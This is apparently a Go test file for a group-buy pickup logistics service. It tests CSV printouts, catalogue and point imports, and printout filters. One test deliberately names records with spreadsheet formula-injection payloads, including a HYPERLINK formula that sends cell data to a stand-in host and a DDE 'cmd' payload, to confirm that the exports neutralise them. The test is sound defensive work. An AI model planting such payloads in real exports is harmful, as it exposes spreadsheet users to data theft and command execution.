package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"groupbuy/pickup"
)

// Text a spreadsheet would run as a formula were it written verbatim.
var formulaNames = []string{`=HYPERLINK("http://x/?"&A1,"click")`, `+SUM(1+1)`, `-2+3`, `@A1`}

// TestCSVPrintoutsNeutraliseFormulas names products, points, leaders,
// addresses and the vehicle after formulas, runs the night, and reads every
// CSV printout back: each such cell comes back with a leading apostrophe,
// while numbers (quantities, weights, coordinates) stay numbers.
func TestCSVPrintoutsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	c := newTestCity(t, 2)
	egg, rice := c.item("EGG"), c.item("RICE")
	// Rename what the printouts print (products and points are saved by
	// SKU and code, so saving again renames them).
	for i, sku := range []string{"EGG", "RICE"} {
		p := map[string]any{"sku": sku, "name": formulaNames[i], "unit": formulaNames[2+i], "weight_g": 900, "volume_ml": 1500,
			"zone": []string{"chilled", "ambient"}[i], "bin": formulaNames[3-i]}
		if r := c.do("POST", "/api/v1/ops/products", c.admin, p); r.Status != http.StatusOK {
			t.Fatalf("product: %d %s", r.Status, r.Body)
		}
	}
	for i, pc := range c.points {
		p := map[string]any{"code": pc.Point.Code, "warehouse_id": c.warehous.ID, "name": formulaNames[i], "address": formulaNames[2+i],
			"lat": pc.Point.Lat, "lng": pc.Point.Lng, "opens": "08:00", "closes": "21:00",
			"leader": map[string]any{"name": formulaNames[3-i], "phone": pc.Leader.Phone}}
		if r := c.do("POST", "/api/v1/ops/pickup-points", c.admin, p); r.Status != http.StatusCreated && r.Status != http.StatusOK {
			t.Fatalf("point: %d %s", r.Status, r.Body)
		}
	}
	c.addVehicleType(map[string]any{"code": "@VAN", "name": "=cmd|' /C calc'!A0", "count": 2, "chilled": true, "frozen": true, "capacity_g": 1_500_000,
		"capacity_ml": 8_000_000, "shift_start": "05:00", "shift_end": "12:00"})
	for l := range c.leaders {
		body := orderBody(fmt.Sprintf("159200%05d", l), "居民", egg.ID, 2, rice.ID, 1)
		c.placeOrder(l, "csv", body)
	}
	path := c.wavePath()
	c.receiptsFinal(path)
	runNightToReady(t, c, path)

	seen := map[string]bool{}
	for _, kind := range []string{"pick-list", "sort-sheet", "labels", "route-sheet"} {
		r := c.do("GET", path+"/printouts/"+kind+".csv", c.admin, nil)
		if r.Status != http.StatusOK {
			t.Fatalf("%s: %d %s", kind, r.Status, r.Body)
		}
		rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
					t.Errorf("%s: column %s holds a formula: %q", kind, rows[0][i], cell)
				}
				if strings.HasPrefix(cell, "'") {
					seen[cell[1:]] = true
				}
			}
		}
	}
	for _, name := range append(formulaNames, "@VAN") {
		if !seen[name] {
			t.Errorf("no printout holds %q as text", name)
		}
	}
}

// isNumber reports whether a cell is a plain decimal number, which a
// spreadsheet reads as the number it is.
func isNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	digits := 0
	for i, r := range s {
		switch {
		case r >= '0' && r <= '9':
			digits++
		case r == '.' && i > 0 && i < len(s)-1:
		default:
			return false
		}
	}
	return digits > 0
}

// TestPointImportNamesTheLineOnce: an import error raised for a row names
// its line once, whichever check raised it.
func TestPointImportNamesTheLineOnce(t *testing.T) {
	t.Parallel()
	c := newTestCity(t, 1)
	header := strings.Join(pickup.PointCSVColumns, ",") + "\n"
	for name, row := range map[string]string{
		// No warehouse while no warehouse has a service area.
		"no warehouse": "TX1,,点,路,31.2,121.5,08:00,21:00,团长,13700003333\n",
		// The phone of a leader who runs another point.
		"leader runs another point": fmt.Sprintf("TX2,%s,点,路,31.2,121.5,08:00,21:00,团长,%s\n", c.warehous.Code, c.points[0].Leader.Phone),
	} {
		r := c.do("POST", "/api/v1/ops/pickup-points/import", c.admin, header+row)
		var env struct{ Error struct{ Message string } }
		r.json(t, &env)
		if r.Status != http.StatusBadRequest || strings.Count(env.Error.Message, "line 2") != 1 ||
			strings.Count(env.Error.Message, "nothing was imported") != 1 {
			t.Errorf("%s: %d %s", name, r.Status, r.Body)
		}
	}
}

// TestImportRefusesAColumnItDoesNotKnow: a catalogue imported again with a
// misspelled optional column ("catagory") answered 200 and emptied every
// product's category (commission rates, purchase margins); it is 400 naming
// the column, and the category stays.
func TestImportRefusesAColumnItDoesNotKnow(t *testing.T) {
	t.Parallel()
	c := newTestCity(t, 1)
	if r := c.do("POST", "/api/v1/ops/products/import", c.admin,
		"\ufeff\"sku\",name,unit,weight_g,volume_ml,zone,bin,category\r\nTYPO1,土鸡蛋,盒,600,900,chilled,C-01,蛋类\r\n,,,,,,,\r\n"); r.Status != http.StatusOK {
		t.Fatalf("first import (a BOM, a quoted header, a spreadsheet's blank row): %d %s", r.Status, r.Body)
	}
	r := c.do("POST", "/api/v1/ops/products/import", c.admin,
		"sku,name,unit,weight_g,volume_ml,zone,bin,catagory\nTYPO1,土鸡蛋,盒,600,900,chilled,C-01,蛋类\n")
	var category string
	if err := c.app.db.Get(&category, `SELECT category FROM products WHERE sku = 'TYPO1'`); err != nil {
		t.Fatal(err)
	}
	if r.Status != http.StatusBadRequest || !strings.Contains(string(r.Body), "catagory") || category != "蛋类" {
		t.Fatalf("an unknown column: %d %s; category now %q", r.Status, r.Body, category)
	}
}

// TestPrintoutZoneAndRouteFilters: ?zone= narrows labels and sort sheets to
// one temperature zone (the same rows as the whole wave's, bag numbers and
// all); where a filter cannot apply (zone on route sheets, route on the pick
// list) it is refused, never ignored.
func TestPrintoutZoneAndRouteFilters(t *testing.T) {
	t.Parallel()
	c := newTestCity(t, 3)
	egg, rice, dumpling := c.item("EGG"), c.item("RICE"), c.item("DUMPLING")
	c.addVans("厢式车", 2)
	for l := range c.leaders {
		body := orderBody(fmt.Sprintf("159300%05d", l), "居民", egg.ID, 2, rice.ID, 1, dumpling.ID, 3)
		c.placeOrder(l, "zones", body)
	}
	path := c.wavePath()
	c.receiptsFinal(path)
	runNightToReady(t, c, path)

	rowsOf := func(rows []map[string]string, keep func(map[string]string) bool) []string {
		var out []string
		for _, r := range rows {
			if keep(r) {
				out = append(out, fmt.Sprint(r))
			}
		}
		return out
	}
	for _, kind := range []string{"labels", "sort-sheet"} {
		whole := readCSV(t, c.do("GET", path+"/printouts/"+kind+".csv", c.admin, nil))
		for _, q := range []struct {
			query string
			keep  func(map[string]string) bool
		}{
			{"zone=chilled", func(r map[string]string) bool { return r["zone"] == "chilled" }},
			{"zone=frozen&route=R01", func(r map[string]string) bool { return r["zone"] == "frozen" && r["route"] == "R01" }},
		} {
			r := c.do("GET", path+"/printouts/"+kind+".csv?"+q.query, c.admin, nil)
			got, want := rowsOf(readCSV(t, r), func(map[string]string) bool { return true }), rowsOf(whole, q.keep)
			if len(want) == 0 || fmt.Sprint(got) != fmt.Sprint(want) {
				t.Errorf("%s?%s:\n got %v\nwant %v", kind, q.query, got, want)
			}
			if cd := r.Header.Get("Content-Disposition"); !strings.Contains(cd, "-"+strings.Split(strings.Split(q.query, "&")[0], "=")[1]) {
				t.Errorf("%s?%s: file name %s", kind, q.query, cd)
			}
		}
		if r := c.do("GET", path+"/printouts/"+kind+".pdf?zone=chilled", c.admin, nil); r.Status != http.StatusOK {
			t.Errorf("%s.pdf?zone=chilled: %d %.200s", kind, r.Status, r.Body)
		}
	}
	for _, bad := range []struct{ query, field string }{
		{"route-sheet.csv?zone=chilled", "zone"},
		{"route-sheet.pdf?zone=frozen&route=R01", "zone"},
		{"pick-list.csv?route=R01", "route"},
		{"labels.csv?zone=warm", "zone"},
	} {
		r := c.do("GET", path+"/printouts/"+bad.query, c.admin, nil)
		if _, field := envelopeOf(t, r); r.Status != http.StatusBadRequest || field != bad.field {
			t.Errorf("%s: %d %s, want 400 naming %s", bad.query, r.Status, r.Body, bad.field)
		}
	}
}
